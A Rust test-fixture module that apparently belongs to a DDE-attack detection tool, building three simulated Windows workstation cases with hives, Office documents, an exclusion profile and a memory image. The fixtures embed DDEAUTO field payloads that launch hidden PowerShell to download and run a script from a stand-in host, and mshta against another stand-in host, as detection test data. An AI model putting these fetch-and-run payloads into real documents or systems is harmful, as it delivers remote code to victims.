//! Three host scenarios for end-to-end tests and demos (`testdata/scenarios/`, described in its
//! README): each a triage folder `<host>/C/...` of one Windows workstation, with its SYSTEM and
//! SOFTWARE hives, the user's NTUSER.DAT, documents and event logs.
//!
//! - `wks-sales-042`: dave opens a DDEAUTO attachment from Outlook; cmd, PowerShell, a download,
//!   a dropped program and its Run key follow (verdict: escalate). A raw memory image of the host
//!   (`wks-sales-042.mem`) holds one carved Sysmon chunk and the PowerShell command line.
//! - `wks-fin-011`: frank's ERP workbook talks DDE to Contoso Ledger on purpose; `erp-site.toml`
//!   (the default profile plus the site's exclusions) makes it "no evidence".
//! - `wks-hr-007`: a DDEAUTO document lies in carol's archive, never opened (investigate).
//!
//! The event logs are in [`crate::scenario_logs`].

use crate::Fixture;
use crate::excel::{self, CT_XLSX, realistic_excel};
use crate::hive::HiveBuilder;
use crate::hive_user::{TRUST_EDITING, mru_item, profile, t, trust_record};
use crate::memdump::fill_page;
use crate::scenario_logs::{self as logs, FIN, HR, Host, SALES};
use crate::word::{CT_DOCX, fld_char_field, p, p_styled, run, word_body};
use crate::word_extras::realistic_word;

/// Office 16's Word key of a user hive.
const WORD16: &str = r"Software\Microsoft\Office\16.0\Word";
/// Office 16's Excel key of a user hive.
const EXCEL16: &str = r"Software\Microsoft\Office\16.0\Excel";

/// The DDEAUTO field instruction of `Remittance_May.docx` (Word escapes `\` as `\\`).
pub const REMITTANCE_FIELD: &str = r#" DDEAUTO c:\\windows\\system32\\cmd.exe "/c powershell -NoP -W Hidden -c IEX (New-Object Net.WebClient).DownloadString('http://remit-portal.example/a.ps1')" "#;
/// The DDEAUTO field instruction of `Vendor_Quote_2019.docx`.
pub const QUOTE_FIELD: &str =
    r#" DDEAUTO c:\\windows\\system32\\cmd.exe "/c mshta http://quote-files.example/q.hta" "#;

/// Builds one file's bytes.
pub type Build = fn() -> Vec<u8>;

/// Every scenario file: path relative to `testdata/`, builder.
pub const SCENARIO_CATALOG: &[(&str, Build)] = &[
    (
        "scenarios/wks-sales-042/C/Windows/System32/config/SYSTEM",
        || system("WKS-SALES-042"),
    ),
    (
        "scenarios/wks-sales-042/C/Windows/System32/config/SOFTWARE",
        || software(&SALES),
    ),
    (
        "scenarios/wks-sales-042/C/Users/dave/NTUSER.DAT",
        dave_ntuser,
    ),
    (
        "scenarios/wks-sales-042/C/Users/dave/AppData/Local/Microsoft/Windows/INetCache/Content.Outlook/Q3ZK81PD/Remittance_May.docx",
        remittance,
    ),
    (
        "scenarios/wks-sales-042/C/Users/dave/Documents/Q1_Forecast.docx",
        forecast,
    ),
    (
        "scenarios/wks-sales-042/C/Windows/System32/winevt/Logs/Microsoft-Windows-Sysmon%4Operational.evtx",
        logs::sales_sysmon,
    ),
    (
        "scenarios/wks-sales-042/C/Windows/System32/winevt/Logs/Security.evtx",
        logs::sales_security,
    ),
    ("scenarios/wks-sales-042.mem", || sales_memory().0),
    (
        "scenarios/wks-fin-011/C/Windows/System32/config/SYSTEM",
        || system("WKS-FIN-011"),
    ),
    (
        "scenarios/wks-fin-011/C/Windows/System32/config/SOFTWARE",
        || software(&FIN),
    ),
    (
        "scenarios/wks-fin-011/C/Users/frank/NTUSER.DAT",
        frank_ntuser,
    ),
    (
        "scenarios/wks-fin-011/C/Users/frank/Documents/Ledger/GL_Balances.xlsx",
        gl_balances,
    ),
    (
        "scenarios/wks-fin-011/C/Windows/System32/winevt/Logs/Microsoft-Windows-Sysmon%4Operational.evtx",
        logs::fin_sysmon,
    ),
    ("scenarios/erp-site.toml", erp_site_profile),
    (
        "scenarios/wks-hr-007/C/Windows/System32/config/SYSTEM",
        || system("WKS-HR-007"),
    ),
    (
        "scenarios/wks-hr-007/C/Windows/System32/config/SOFTWARE",
        || software(&HR),
    ),
    (
        "scenarios/wks-hr-007/C/Users/carol/NTUSER.DAT",
        carol_ntuser,
    ),
    (
        "scenarios/wks-hr-007/C/Users/carol/Documents/Archive/Vendor_Quote_2019.docx",
        vendor_quote,
    ),
    (
        "scenarios/wks-hr-007/C/Windows/System32/winevt/Logs/Microsoft-Windows-Sysmon%4Operational.evtx",
        logs::hr_sysmon,
    ),
];

/// The scenario files, in [`SCENARIO_CATALOG`] order.
pub fn scenario_fixtures() -> Vec<Fixture> {
    SCENARIO_CATALOG
        .iter()
        .map(|(path, build)| Fixture {
            path: (*path).to_owned(),
            bytes: build(),
        })
        .collect()
}

/// The builder of the scenario file at `path` (relative to `testdata/`).
pub fn find(path: &str) -> Option<Build> {
    SCENARIO_CATALOG
        .iter()
        .find(|(p, _)| *p == path)
        .map(|(_, build)| *build)
}

/// A host's SYSTEM hive: `Select\Current` 1, the computer name in ControlSet001 (key written
/// 2023-11-20T09:00:00Z), time zone UTC.
pub fn system(computer_name: &str) -> Vec<u8> {
    HiveBuilder::new("SYSTEM")
        .root_name("ROOT")
        .default_time(t("2023-11-20T08:30:00Z"))
        .key("Select", t("2023-11-20T08:30:00Z"))
        .dword("Current", 1)
        .dword("Default", 1)
        .dword("Failed", 0)
        .dword("LastKnownGood", 1)
        .key(
            r"ControlSet001\Control\ComputerName\ComputerName",
            t("2023-11-20T09:00:00Z"),
        )
        .sz("ComputerName", computer_name)
        .key(
            r"ControlSet001\Control\TimeZoneInformation",
            t("2023-11-20T09:00:05Z"),
        )
        .sz("TimeZoneKeyName", "UTC")
        .dword("Bias", 0)
        .build()
}

/// A host's SOFTWARE hive: Windows 10 Pro 19045, the ProfileList (S-1-5-18 and the host's
/// user, `C:\Users\<user>`, key written 2023-11-20T09:30:00Z) and the Equation Editor kill bit
/// set (0x400) under the native COM Compatibility path.
pub fn software(host: &Host) -> Vec<u8> {
    let list = r"Microsoft\Windows NT\CurrentVersion\ProfileList";
    HiveBuilder::new("SOFTWARE")
        .root_name("CMI-CreateHive{199DAFC2-6F16-4946-BF90-5A3FC3A60902}")
        .default_time(t("2023-11-20T08:30:00Z"))
        .key(
            r"Microsoft\Windows NT\CurrentVersion",
            t("2024-03-12T02:10:00Z"),
        )
        .sz("ProductName", "Windows 10 Pro")
        .sz("CurrentBuild", "19045")
        .sz("RegisteredOwner", host.user)
        .key(&format!(r"{list}\S-1-5-18"), t("2023-11-20T08:30:00Z"))
        .expand_sz(
            "ProfileImagePath",
            r"%systemroot%\system32\config\systemprofile",
        )
        .key(&format!(r"{list}\{}", host.sid), t("2023-11-20T09:30:00Z"))
        .expand_sz("ProfileImagePath", &format!(r"C:\Users\{}", host.user))
        .key(
            &format!(
                r"Microsoft\Office\Common\COM Compatibility\{}",
                crate::hive_machine::EQNEDT_CLSID
            ),
            t("2023-11-20T10:00:00Z"),
        )
        .dword("Compatibility Flags", crate::hive_machine::KILL_BIT)
        .build()
}

/// The start of a user hive of `host`, profile created 2023-11-20T09:30:00Z.
fn user_hive(host: &Host) -> HiveBuilder {
    profile(
        &format!(r"\??\C:\Users\{}\ntuser.dat", host.user),
        host.user,
        t("2023-11-20T09:30:00Z"),
    )
}

/// dave's NTUSER.DAT: Word AllowDDE = 2 (Word\Security written 2024-05-06T08:57:10Z); Word
/// File MRU (key written 08:59:40) Item 1 the attachment (08:59:40), Item 2 Q1_Forecast.docx
/// (2024-05-02T14:03:00Z); TrustRecords (written 08:59:42): editing enabled for the
/// attachment at 08:59:42.
pub fn dave_ntuser() -> Vec<u8> {
    user_hive(&SALES)
        .key(&format!(r"{WORD16}\Security"), t("2024-05-06T08:57:10Z"))
        .dword("AllowDDE", 2)
        .key(
            &format!(r"{WORD16}\Security\Trusted Documents\TrustRecords"),
            t("2024-05-06T08:59:42Z"),
        )
        .binary(
            "%USERPROFILE%/AppData/Local/Microsoft/Windows/INetCache/Content.Outlook/Q3ZK81PD/Remittance_May.docx",
            &trust_record(t("2024-05-06T08:59:42Z"), 0, TRUST_EDITING),
        )
        .key(
            &format!(r"{WORD16}\User MRU\ADAL_5C1F0A7B93E24D68\File MRU"),
            t("2024-05-06T08:59:40Z"),
        )
        .sz(
            "Item 1",
            &mru_item(t("2024-05-06T08:59:40Z"), logs::REMITTANCE),
        )
        .sz(
            "Item 2",
            &mru_item(
                t("2024-05-02T14:03:00Z"),
                r"C:\Users\dave\Documents\Q1_Forecast.docx",
            ),
        )
        .build()
}

/// frank's NTUSER.DAT: Excel DisableDDEServerLaunch = 0 (Excel\Security written
/// 2024-04-02T07:30:00Z, by Contoso Ledger's installer).
pub fn frank_ntuser() -> Vec<u8> {
    user_hive(&FIN)
        .key(&format!(r"{EXCEL16}\Security"), t("2024-04-02T07:30:00Z"))
        .dword("DisableDDEServerLaunch", 0)
        .build()
}

/// carol's NTUSER.DAT: Word AllowDDE = 0 (Word\Security written 2024-01-08T09:00:00Z); Word
/// File MRU (written 2024-04-15T10:00:00Z) Item 1 Handbook.docx (2024-04-15T10:00:00Z).
pub fn carol_ntuser() -> Vec<u8> {
    user_hive(&HR)
        .key(&format!(r"{WORD16}\Security"), t("2024-01-08T09:00:00Z"))
        .dword("AllowDDE", 0)
        .key(
            &format!(r"{WORD16}\User MRU\ADAL_8E2D4B1C07F35A96\File MRU"),
            t("2024-04-15T10:00:00Z"),
        )
        .sz(
            "Item 1",
            &mru_item(
                t("2024-04-15T10:00:00Z"),
                r"C:\Users\carol\Documents\Handbook.docx",
            ),
        )
        .build()
}

/// A Word document of `paragraphs`, then a paragraph with the `field` (instruction, shown
/// result) when given.
fn letter(title: &str, author: &str, paragraphs: &[&str], field: Option<(&str, &str)>) -> Vec<u8> {
    let mut body = p_styled("Title", &run(title));
    for text in paragraphs {
        body.push_str(&p(&run(text)));
    }
    if let Some((instruction, result)) = field {
        body.push_str(&p(&fld_char_field(&[instruction], result)));
    }
    realistic_word(CT_DOCX, word_body(&body).as_bytes(), &[], title, author)
}

/// `Remittance_May.docx`: a remittance advice with the DDEAUTO field [`REMITTANCE_FIELD`].
pub fn remittance() -> Vec<u8> {
    letter(
        "Remittance Advice - May 2024",
        "Accounts Receivable",
        &[
            "Fabrikam Payments, 1 Harbour Way, Springfield",
            "Payment reference RA-2024-0517, value date 6 May 2024, amount EUR 18,420.00.",
            "The attached remittance lists the invoices settled by this payment. \
             If the details do not display, allow the document to update its links.",
        ],
        Some((REMITTANCE_FIELD, "Remittance details")),
    )
}

/// `Q1_Forecast.docx`: a benign forecast, no fields.
pub fn forecast() -> Vec<u8> {
    letter(
        "Q1 Sales Forecast",
        "dave",
        &[
            "Pipeline review for the first quarter, sales region North.",
            "Committed: 1.2 M; best case: 1.6 M. Three renewals move to April.",
        ],
        None,
    )
}

/// `Vendor_Quote_2019.docx`: an old quote with the DDEAUTO field [`QUOTE_FIELD`].
pub fn vendor_quote() -> Vec<u8> {
    letter(
        "Quotation Q-2019-114",
        "Northwind Sales",
        &[
            "Northwind Traders, quotation for office furniture, valid 30 days.",
            "12 desks, 12 chairs, delivery and assembly included: EUR 9,870.00.",
        ],
        Some((QUOTE_FIELD, "Quotation details")),
    )
}

/// `GL_Balances.xlsx`: a ledger sheet with an Excel DDE link to Contoso Ledger's `CLEDGER`
/// server, topic `GL`, item `BALANCE`.
pub fn gl_balances() -> Vec<u8> {
    let strings = ["Account", "Balance", "4000 Revenue", "5000 Cost of sales"];
    let rows = [
        excel::row(
            1,
            &[excel::cell_shared("A1", 0), excel::cell_shared("B1", 1)],
        ),
        excel::row(
            2,
            &[
                excel::cell_shared("A2", 2),
                excel::cell_number("B2", 182_400.0),
            ],
        ),
        excel::row(
            3,
            &[
                excel::cell_shared("A3", 3),
                excel::cell_number("B3", 97_310.5),
            ],
        ),
    ]
    .concat();
    let sheet = excel::sheet_xml(&rows);
    let shared = excel::shared_strings_xml(&strings);
    let link = excel::dde_link_xml("CLEDGER", "GL", &["BALANCE"]);
    realistic_excel(
        CT_XLSX,
        &[
            ("xl/worksheets/sheet1.xml", sheet.as_bytes()),
            ("xl/externalLinks/externalLink1.xml", link.as_bytes()),
            ("xl/sharedStrings.xml", shared.as_bytes()),
        ],
        "GL Balances",
        "frank",
    )
}

/// The site exclusions `erp-site.toml` adds to the default profile.
pub const ERP_SITE_EXCLUSIONS: &str = r#"
# ---------------------------------------------------------------------------------------------
# Site exclusions of the finance floor (WKS-FIN-*): Contoso Ledger exchanges ledger data with
# Excel over DDE by design.

[[document.exclusions]]
id = "contoso-ledger-dde-link"
reason = "Ledger workbooks pull balances from Contoso Ledger's CLEDGER DDE server"
rules = ["ddesweep.document.dde_link"]
dde_service = ["CLEDGER"]

[[eventlog.exclusions]]
id = "contoso-ledger-programs"
reason = "Contoso Ledger's installer enables Excel's DDE server launch, and Excel starts its DDE server"
rules = ["ddesweep.eventlog.excel_child_executable", "ddesweep.eventlog.excel_dde_server_launch"]
image = ['\Program Files\Contoso\Ledger\']

[[eventlog.exclusions]]
id = "contoso-ledger-dde-server-launch"
reason = "DisableDDEServerLaunch is cleared on finance workstations for Contoso Ledger"
rules = ["ddesweep.eventlog.excel_dde_server_launch"]
target = ['\Excel\Security\DisableDDEServerLaunch']
"#;

/// `erp-site.toml`: the default profile (`profiles/default.toml`) with [`ERP_SITE_EXCLUSIONS`].
pub fn erp_site_profile() -> Vec<u8> {
    let default = include_str!("../../../profiles/default.toml");
    let text = default.replacen(
        "name = \"default\"\ndescription = \"",
        "name = \"erp-site\"\ndescription = \"Finance floor (Contoso Ledger DDE excluded): ",
        1,
    );
    (text + ERP_SITE_EXCLUSIONS).into_bytes()
}

/// Size of WKS-SALES-042's memory image.
pub const MEMORY_SIZE: usize = 1 << 20;
/// Where the carved Sysmon chunk ([`logs::sales_memory_log`]'s chunk 0) lies in it.
pub const MEMORY_CHUNK_OFFSET: usize = 0x0004_0000;
/// Where PowerShell's command line (UTF-16LE, as in its PEB) lies in it.
pub const MEMORY_COMMAND_LINE_OFFSET: usize = 0x000C_0000;
/// Where the ASCII download cradle lies in it.
pub const MEMORY_CRADLE_OFFSET: usize = 0x000D_0000;
/// The ASCII download cradle.
pub const MEMORY_CRADLE: &str =
    "IEX (New-Object Net.WebClient).DownloadString('http://remit-portal.example/a.ps1')";

/// WKS-SALES-042's raw memory image (1 MiB of zero, noise and prose pages) and the offsets of
/// what it holds: (chunk, UTF-16LE command line, ASCII cradle).
pub fn sales_memory() -> (Vec<u8>, [usize; 3]) {
    let mut bytes = vec![0u8; MEMORY_SIZE];
    let mut state = 0x0420_5A1E_5042_0001u64;
    for page in bytes.chunks_mut(4096) {
        fill_page(page, &mut state);
    }
    let log = logs::sales_memory_log();
    let chunk = log.get(4096..4096 + 65_536).unwrap_or_default();
    bytes[MEMORY_CHUNK_OFFSET..MEMORY_CHUNK_OFFSET + chunk.len()].copy_from_slice(chunk);
    let utf16: Vec<u8> = logs::POWERSHELL_CMD
        .encode_utf16()
        .flat_map(u16::to_le_bytes)
        .collect();
    for (at, text) in [
        (MEMORY_COMMAND_LINE_OFFSET, utf16),
        (MEMORY_CRADLE_OFFSET, MEMORY_CRADLE.as_bytes().to_vec()),
    ] {
        // Zeros on both sides: the string stands alone, as in a heap block.
        bytes[at - 16..at + text.len() + 16].fill(0);
        bytes[at..at + text.len()].copy_from_slice(&text);
    }
    (
        bytes,
        [
            MEMORY_CHUNK_OFFSET,
            MEMORY_COMMAND_LINE_OFFSET,
            MEMORY_CRADLE_OFFSET,
        ],
    )
}
